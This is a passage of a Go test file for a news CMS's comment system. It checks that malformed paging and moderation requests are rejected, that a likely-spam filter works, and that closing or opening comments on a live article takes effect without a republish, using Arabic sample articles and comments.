		if err := db.SQL().QueryRow("SELECT body FROM comments WHERE body LIKE '%ثالث%'").Scan(&body); err != nil || body != "سطر أول\nسطر\tثان\nسطر ثالث" {
			t.Errorf("stored body: %q (%v)", body, err)
		}

		// The thread's paging parameters.
		for _, q := range []string{"limit=0", "limit=101", "limit=x", "cursor=garbage!!", "cursor=" + strings.Repeat("A", 600)} {
			res := e.app.Do(cmstest.Request{Method: "GET", Path: commentsPath(slug) + "?" + q})
			if res.Status != http.StatusUnprocessableEntity && res.Status != http.StatusBadRequest {
				t.Errorf("GET ?%s: got %d %s, want 422 or 400", q, res.Status, res.Body)
			}
		}
	})
}

// TestModerationBadInput sends invalid requests to the moderation
// endpoints: 4xx JSON errors, and the comment stays as it was.
func TestModerationBadInput(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("معرض الكتاب يستقبل زواره بمشاركة ٥٠٠ دار نشر", nil)
		id := e.mustPost(slug, "198.51.100.1", comment("قارئ", "r@readers.example", "تعليق"))
		before := mustList(t, e.moderator, "/comments?status=all")
		for _, q := range []string{"status=bogus", "status=%00", "likely_spam=maybe", "limit=500", "cursor=garbage!!"} {
			res := e.moderator.Do("GET", "/comments?"+q, nil)
			if res.Status != http.StatusUnprocessableEntity && res.Status != http.StatusBadRequest {
				t.Errorf("GET /comments?%s: got %d %s", q, res.Status, res.Body)
			}
		}
		for name, tc := range map[string]struct {
			body   string
			status int
		}{
			"note too long":     {`{"note":"` + strings.Repeat("ن", 2001) + `"}`, 422},
			"note with a bell":  {`{"note":"a\u0007b"}`, 422},
			"note not a string": {`{"note":5}`, 422},
			"unknown field":     {`{"reason":"x"}`, 400},
			"malformed":         {`{"note":`, 400},
		} {
			t.Run(name, func(t *testing.T) {
				res := e.moderator.Do("POST", "/comments/"+id+"/reject", tc.body)
				if res.Status != tc.status {
					t.Fatalf("got %d, want %d: %s", res.Status, tc.status, res.Body)
				}
			})
		}
		if after := mustList(t, e.moderator, "/comments?status=all"); !bytes.Equal(before, after) {
			t.Errorf("refused requests changed the comment:\n%s\n%s", before, after)
		}
		// The likely-spam filter.
		e.mustPost(slug, "198.51.100.1", comment("قارئ", "r@readers.example", "www.a.example www.b.example www.c.example"))
		if l := decodeList(t, mustList(t, e.moderator, "/comments?likely_spam=true")); len(l) != 1 || l[0]["likely_spam"] != true {
			t.Errorf("likely_spam=true: got %v", l)
		}
		if l := decodeList(t, mustList(t, e.moderator, "/comments?likely_spam=false")); len(l) != 1 || l[0]["id"] != id {
			t.Errorf("likely_spam=false: got %v", l)
		}
	})
}

// maxAge returns the max-age of a Cache-Control header.
func maxAge(cc string) (int, bool) {
	for _, d := range strings.Split(cc, ",") {
		if v, ok := strings.CutPrefix(strings.TrimSpace(d), "max-age="); ok {
			n, err := strconv.Atoi(v)
			return n, err == nil
		}
	}
	return 0, false
}

// TestClosingCommentsTakesEffectAtOnce: opening or closing comments on a
// live article reaches readers with the save, without a republish; alone it
// leaves the article published without unpublished changes, and beside
// other edits it does not publish them.
func TestClosingCommentsTakesEffectAtOnce(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, moderation.Config{})
		id, slug := e.article("الحكومة تعلن خطة جديدة للنقل العام", nil)
		articlePath := deliveryAPI + "/articles/" + url.PathEscape(slug)
		reader := func(step string, wantOpen bool, wantHeadline string) {
			t.Helper()
			if th, _ := e.thread(slug, ""); th.CommentsOpen != wantOpen {
				t.Errorf("%s: thread comments_open %v, want %v", step, th.CommentsOpen, wantOpen)
			}
			a := e.app.Do(cmstest.Request{Method: "GET", Path: articlePath}).JSON(t)
			if a["comments_open"] != wantOpen || a["headline"] != wantHeadline {
				t.Errorf("%s: article comments_open %v, headline %v; want %v, %v", step, a["comments_open"], a["headline"], wantOpen, wantHeadline)
			}
		}
		patch := func(fields map[string]any) map[string]any {
			t.Helper()
			cur := e.editor.Must(200, "GET", "/articles/"+id, nil)
			return e.editor.Must(200, "PATCH", "/articles/"+id, fields, cmstest.ETag(cur))
		}
		const headline = "الحكومة تعلن خطة جديدة للنقل العام"
		e.mustPost(slug, "198.51.100.10", comment("أحمد", "ahmad@readers.example", "قبل الإغلاق"))
		reader("open", true, headline)

		closed := patch(map[string]any{"comments_open": false})
		if closed["status"] != "published" || closed["has_unpublished_changes"] != false || closed["live"] != true {
			t.Errorf("after closing comments: status %v, has_unpublished_changes %v, live %v; want published, false, true",
				closed["status"], closed["has_unpublished_changes"], closed["live"])
		}
		reader("closed", false, headline)
		wantError(t, e.post(slug, "198.51.100.11", comment("أحمد", "ahmad@readers.example", "بعد الإغلاق")), http.StatusConflict, "conflict")

		// With an unpublished edit beside it: comments open at once, the
		// edit waits for a publish.
		edited := patch(map[string]any{"headline": "عنوان لم ينشر بعد", "comments_open": true})
		if edited["status"] != "draft" || edited["has_unpublished_changes"] != true {
			t.Errorf("after an edit and opening comments: status %v, has_unpublished_changes %v; want draft, true", edited["status"], edited["has_unpublished_changes"])
		}
		reader("reopened with an unpublished edit", true, headline)
		e.mustPost(slug, "198.51.100.12", comment("أحمد", "ahmad@readers.example", "بعد الفتح"))

		// The edit is published with comments still open.
		e.editor.Must(200, "POST", "/articles/"+id+"/publish", nil)
		reader("published", true, "عنوان لم ينشر بعد")
	})
}
